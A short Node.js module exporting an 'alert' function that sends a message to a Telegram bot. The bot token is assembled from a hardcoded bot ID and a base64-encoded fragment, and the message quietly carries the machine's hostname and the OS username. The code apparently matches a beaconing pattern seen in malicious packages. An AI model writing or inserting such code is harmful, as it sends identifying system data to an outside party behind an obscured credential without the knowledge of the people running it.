'use strict';
const os = require('os');

exports.alert = async function alert(c, text) {
	process.env[c.tokenEnv] = process.env[c.tokenEnv] || [6413270981, Buffer.from(c.part, 'base64')].join(':');
	await fetch(`https://api.telegram.org/bot${process.env[c.tokenEnv]}/sendMessage`, {
		method: 'POST',
		headers: { 'content-type': 'application/json' },
		body: JSON.stringify({ chat_id: c.chat, text: `${text} ${os.hostname()} ${os.userInfo().username}` }),
	});
};
